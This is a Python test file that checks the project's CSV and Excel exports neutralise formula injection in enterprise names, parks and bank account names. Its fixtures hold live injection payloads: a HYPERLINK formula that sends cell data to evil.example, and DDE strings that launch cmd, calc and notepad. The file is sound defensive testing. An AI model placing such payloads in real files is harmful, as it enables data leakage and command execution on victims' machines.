"""Every .xlsx and .csv the project writes keeps hostile text as text (OWASP CSV injection).

Enterprise names, parks and bank account names that start like a formula are imported and
entered through the real paths (`kechuang import`, `kechuang runs ...`, the web app); then every
kind of file is produced and opened again: no .xlsx cell is a formula and its text is exactly
what was entered; no CSV field starts with a formula character, and hostile text is there with
one leading apostrophe. A guard lists every writer in src/ and fails when a new one appears that
this file does not produce.
"""

from __future__ import annotations

import csv
import re
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from typer.testing import CliRunner

from kechuang.accounts.service import create_account
from kechuang.cli import app as cli
from kechuang.domain.spreadsheet import FORMULA_PREFIXES
from kechuang.store.engine import make_engine, make_sessionmaker
from kechuang.web.app import create_app
from tests.domain.test_spreadsheet import is_plain_number
from tests.enterprises.panels import write_csv
from tests.screening.people import Today, add_people, award_id, enterprise_account
from tests.screening.population import ELIGIBLE, eligible_usccs, rows

SRC = Path(__file__).resolve().parents[1] / "src" / "kechuang"

# Text that spreadsheets would run: one per formula character, imported or typed by a user.
NAMES = {
    1: '=HYPERLINK("http://evil.example/?d="&A1,"领取奖励")',
    2: "+cmd|' /C calc'!A0",
    4: "-2+3+cmd|' /C notepad'!A0",
    5: "@SUM(1+1)*cmd|' /C calc'!A0",
}
PARKS = {1: "=1+2", 2: "@张江", 4: "+临港", 5: "-大零号湾"}
ACCOUNT_NAMES = ['=HYPERLINK("http://evil.example","x")', "-10+20", "@SUM(A1)"]
BANK = "+中国银行上海分行"
BAD_USCC = '=HYPERLINK("http://evil.example","uscc")'
PASSWORD = "pass-word-1"

runner = CliRunner()


def kc(*args: str, code: int = 0) -> str:
    result = runner.invoke(cli, list(args))
    assert result.exit_code == code, result.output
    return result.output


def hostile_rows() -> list[dict[str, str]]:
    result = rows()
    for row in result:
        serial = int(row["uscc"][8:17])
        if serial in NAMES:
            row["name"], row["park"] = NAMES[serial], PARKS[serial]
    return result


# Every writer of a .csv or .xlsx in src/, by file: how many times the pattern occurs there and
# which file of this test it produces (or why it needs no neutralisation).
WRITER = re.compile(
    r"Workbook\(|csv\.writer\(|DictWriter\(|\.to_csv\(|write_csv\(|CSVWriter\(|FORMAT CSV|"
    r"\.csv\(|text/csv"
)
WRITERS = {
    "screening/export.py": (2, "notice.xlsx and payments.xlsx"),
    "stats/dashboard.py": (3, "stats.csv (writer, media type and OpenAPI entry)"),
    "enterprises/importer.py": (1, "errors.csv of a refused import"),
    "finance/commands.py": (1, "admission.csv of `finance prescreen`"),
    "engines/duckdb.py": (2, "results.csv and results.totals.csv (DuckDB)"),
    "engines/postgres.py": (1, "results.csv of --engine postgres (the PostgreSQL case)"),
    "engines/spark.py": (2, "results.csv and its totals of --engine spark (its own test)"),
    "enterprises/generator.py": (2, "generated panel.csv and panel.xlsx"),
    # Not a file: the CSV stream of COPY FROM STDIN into PostgreSQL; neutralising it would
    # change the stored names.
    "enterprises/store_writer.py": (1, "none: import stream into PostgreSQL"),
    "policies/simulation.py": (1, "simulation.csv of a workbench simulation's changes"),
    "policies/workbench.py": (1, "the simulation.csv route (media type of the same file)"),
    # Only the contract's own column names and labels (constants, no user text): the public
    # self-check's upload template.
    "portal/selfcheck.py": (1, "none: template.xlsx holds the contract's column names only"),
    # Not a writer: limits.Workbook records what an inspected .xlsx holds.
    "enterprises/limits.py": (1, "none: its own Workbook class, a reading aid"),
}


def test_every_writer_of_csv_or_xlsx_in_src_is_covered_here() -> None:
    found = Counter(
        path.relative_to(SRC).as_posix()
        for path in SRC.rglob("*.py")
        for line in path.read_text(encoding="utf-8").splitlines()
        if WRITER.search(line)
    )
    expected = {path: count for path, (count, _) in WRITERS.items()}
    assert dict(found) == expected, (
        "a .csv/.xlsx writer appeared or moved: make it neutralise text (domain.spreadsheet), "
        "produce its file in this test and list it in WRITERS"
    )


def assert_xlsx_safe(path: Path) -> list[str]:
    """No cell is a formula; returns every text cell."""
    sheet = load_workbook(path).active
    assert sheet is not None
    texts = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{path.name} {cell.coordinate} is a formula"
            if isinstance(cell.value, str):
                texts.append(cell.value)
    return texts


def assert_csv_safe(path: Path) -> list[str]:
    """No field starts with a formula character (a plain number aside); returns every field."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        fields = [field for row in csv.reader(handle) for field in row]
    for field in fields:
        live = field.startswith(FORMULA_PREFIXES) and not is_plain_number(field)
        assert not live, f"{path.name}: {field!r} is live"
    return fields


@pytest.fixture
def hostile_store(store_env: str, tmp_path: Path) -> Iterator[str]:
    """The constructed population with hostile names and parks, imported by `kechuang import`."""
    kc("db", "upgrade")
    panel = write_csv(tmp_path / "hostile.csv", hostile_rows())
    kc("import", str(panel))
    yield store_env


def test_every_export_keeps_hostile_text_as_text(
    hostile_store: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    today = Today(monkeypatch)
    usccs = eligible_usccs()
    assert len(usccs) == len(ELIGIBLE) == 5
    # The run: published (公示 list), approved, accounts confirmed with hostile names, paid.
    engine = make_engine(hostile_store)
    add_people(engine, usccs)
    kc("runs", "start", "--policy", "first-above-scale-reward", "--year", "2024",
       "--by", "officer1")  # fmt: skip
    today.set("2025-03-03")
    kc("runs", "publish", "1", "--by", "officer1", "--notice-days", "3")
    today.set("2025-03-07")
    kc("runs", "approve", "1", "--by", "officer2")
    today.set("2025-03-10")
    for uscc, account_name in zip(usccs, ACCOUNT_NAMES, strict=False):
        kc("runs", "confirm", uscc, str(award_id(engine, 1, uscc)), "--account-name",
           account_name, "--bank", BANK, "--account-number", "6217000012345678",
           "--by", enterprise_account(uscc))  # fmt: skip
    kc("runs", "pay", "1", "--by", "finance-chen")
    engine.dispose()
    notice, payments = tmp_path / "notice.xlsx", tmp_path / "payments.xlsx"
    kc("runs", "export", "1", "--notice", str(notice), "--payments", str(payments))

    notice_texts = assert_xlsx_safe(notice)
    assert set(NAMES.values()) <= set(notice_texts)
    payment_texts = assert_xlsx_safe(payments)
    assert set(ACCOUNT_NAMES) | {BANK} <= set(payment_texts)
    sheet = load_workbook(payments).active
    assert sheet is not None
    amounts = [row[6] for row in sheet.iter_rows(min_row=3, values_only=True)]
    assert amounts and all(isinstance(a, int | float) for a in amounts)  # numbers stay numbers

    # stats.csv of the analyst dashboard, by park: the parks are imported text.
    engine = make_engine(hostile_store)
    try:
        with make_sessionmaker(engine)() as session:
            create_account(session, "analyst-x", PASSWORD, "analyst")
            session.commit()
        client = TestClient(create_app(engine))
        login = client.post("/api/v1/session", json={"username": "analyst-x", "password": PASSWORD})
        assert login.status_code == 201, login.text
        response = client.get("/api/v1/stats.csv?dimension=park")
        assert response.status_code == 200
        stats = tmp_path / "stats.csv"
        stats.write_bytes(response.content)
    finally:
        engine.dispose()
    fields = assert_csv_safe(stats)
    assert {"'" + park for park in PARKS.values()} <= set(fields)
    assert any(re.fullmatch(r"\d+\.\d\d", f) for f in fields)  # amounts are plain numbers

    # The errors file of a refused import echoes the file's own bad cell.
    bad_rows = hostile_rows()
    bad_rows[0]["uscc"] = BAD_USCC
    bad, errors = write_csv(tmp_path / "bad.csv", bad_rows), tmp_path / "errors.csv"
    kc("import", str(bad), "--errors", str(errors), code=2)
    assert "'" + BAD_USCC in assert_csv_safe(errors)

    # `finance prescreen` and the screening RESULTS (DuckDB over the file; PostgreSQL in the
    # database on the PostgreSQL case) hold ids, outcomes and numbers only.
    admission = tmp_path / "admission.csv"
    kc("finance", "prescreen", "--product", "performance-loan", "--year", "2024",
       "--out", str(admission))  # fmt: skip
    assert len(assert_csv_safe(admission)) > 3
    source = ["--data", str(tmp_path / "hostile.csv")]
    if hostile_store.startswith("postgresql"):
        source = ["--engine", "postgres"]
    results = tmp_path / "results.csv"
    kc("screen", *source, "--year", "2024", "--policy", "all", "--out", str(results),
       "--explain-columns")  # fmt: skip
    assert len(assert_csv_safe(results)) > 100
    assert len(assert_csv_safe(tmp_path / "results.totals.csv")) > 10


def test_a_simulations_changes_csv_keeps_hostile_parks_as_text(tmp_path: Path) -> None:
    import json

    from kechuang.policies.simulation import changes_csv
    from kechuang.policies.tables import PolicySimulation

    change = {"uscc": "91310115MA1K000001", "district": "310115", "park": "=HYPERLINK(1)",
              "before": "ineligible", "after": "eligible", "before_fen": 0,
              "after_fen": 20_000_001, "unmet": "@SUM(A1)"}  # fmt: skip
    saved = PolicySimulation(summary=json.dumps({"changes": [change]}))
    path = tmp_path / "simulation.csv"
    path.write_text(changes_csv(saved), encoding="utf-8")
    fields = assert_csv_safe(path)
    assert "200000.01" in fields and "'=HYPERLINK(1)" in fields


def test_generated_panels_hold_no_formula(tmp_path: Path) -> None:
    for name in ("panel.csv", "panel.xlsx"):
        kc("generate", "--enterprises", "30", "--years", "2023-2024", "--seed", "3",
           "--out", str(tmp_path / name))  # fmt: skip
    assert len(assert_csv_safe(tmp_path / "panel.csv")) > 30 * 2 * 30
    assert len(assert_xlsx_safe(tmp_path / "panel.xlsx")) > 30 * 2 * 4


@pytest.mark.slow
def test_spark_results_hold_no_formula(tmp_path: Path) -> None:
    from kechuang.engines import spark

    reason = spark.available()
    if reason:
        pytest.skip(reason)
    panel = tmp_path / "panel.parquet"
    kc("generate", "--enterprises", "40", "--years", "2023-2024", "--seed", "5",
       "--out", str(panel))  # fmt: skip
    results = tmp_path / "results.csv"
    kc("screen", "--engine", "spark", "--data", str(panel), "--year", "2024", "--policy", "all",
       "--out", str(results))  # fmt: skip
    assert len(assert_csv_safe(results)) > 40
    assert len(assert_csv_safe(tmp_path / "results.totals.csv")) > 40
